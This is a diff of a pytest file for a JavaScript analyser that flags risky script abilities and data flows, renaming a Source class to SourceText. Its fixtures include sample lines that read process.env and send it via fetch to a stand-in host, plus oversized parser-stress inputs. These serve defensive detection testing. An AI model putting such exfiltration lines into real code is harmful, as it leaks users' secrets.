@@ -5,7 +5,7 @@ from contextlib import suppress
 import pytest
 
 from skillpack.abilities.javascript import javascript_readings
-from skillpack.abilities.source import Source
+from skillpack.abilities.source_text import SourceText
 from skillpack.model.ability import Ability, Concern
 
 FS = "const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process')\n"
@@ -107,7 +107,7 @@ HOSTILE = ["if(a)" * 5000, "a=>" * 5000, "x=process.env;fetch(x);\n" * 3000, "a?
 
 def concerns(text: str) -> list[str]:
     found = dict.fromkeys(
-        each for each in javascript_readings(Source("s.js", text, "javascript")) if isinstance(each, Concern)
+        each for each in javascript_readings(SourceText("s.js", text, "javascript")) if isinstance(each, Concern)
     )
     return [f"{each.kind} {each.level.name.lower().replace('_', '-')} {each.at.span.line}" for each in found]
 
@@ -124,12 +124,12 @@ def test_what_honest_scripts_do_is_no_concern(text: str) -> None:
 
 @pytest.mark.parametrize(("text", "expected"), ABLE)
 def test_an_ability_is_seen(text: str, expected: str) -> None:
-    found = [each for each in javascript_readings(Source("s.js", text, "javascript")) if isinstance(each, Ability)]
+    found = [each for each in javascript_readings(SourceText("s.js", text, "javascript")) if isinstance(each, Ability)]
     assert expected in {f"{each.kind} {each.words} {each.target}".strip() for each in found}
 
 
 def test_both_lines_of_a_flow_are_given() -> None:
-    source = Source("s.js", "const e = process.env\n\nfetch('https://c.example', {body: e})", "javascript", 10)
+    source = SourceText("s.js", "const e = process.env\n\nfetch('https://c.example', {body: e})", "javascript", 10)
     (concern,) = {each for each in javascript_readings(source) if isinstance(each, Concern)}
     assert (concern.at.span.line, concern.other and concern.other.span.line) == (12, 10)
 
@@ -137,10 +137,10 @@ def test_both_lines_of_a_flow_are_given() -> None:
 @pytest.mark.parametrize("text", ["f(", "`a", "/* a", "f(]", "f(a"])
 def test_what_is_not_closed_is_no_script(text: str) -> None:
     with pytest.raises(SyntaxError):
-        list(javascript_readings(Source("s.js", text, "javascript")))
+        list(javascript_readings(SourceText("s.js", text, "javascript")))
 
 
 @pytest.mark.parametrize("text", HOSTILE)
 def test_hostile_texts_are_read_to_their_end_or_refused(text: str) -> None:
     with suppress(SyntaxError, RecursionError):
-        list(javascript_readings(Source("s.js", text, "javascript")))
+        list(javascript_readings(SourceText("s.js", text, "javascript")))
